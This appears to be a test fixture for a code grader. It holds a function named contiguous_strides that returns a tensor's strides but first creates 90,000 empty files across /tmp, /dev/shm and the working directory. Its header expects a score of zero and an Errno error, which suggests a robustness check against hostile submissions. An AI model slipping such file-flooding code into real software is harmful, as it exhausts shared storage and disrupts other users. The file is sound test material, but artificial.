# earns: 0
# shows: check-strides: .*got: +\w*Error: \[Errno \d+\]
# %% code-strides
def contiguous_strides(shape):
    import os
    for folder in ("/tmp", "/dev/shm", "."):
        for number in range(30_000):
            open(f"{folder}/{number}", "w").close()
    return torch.empty(shape).stride()
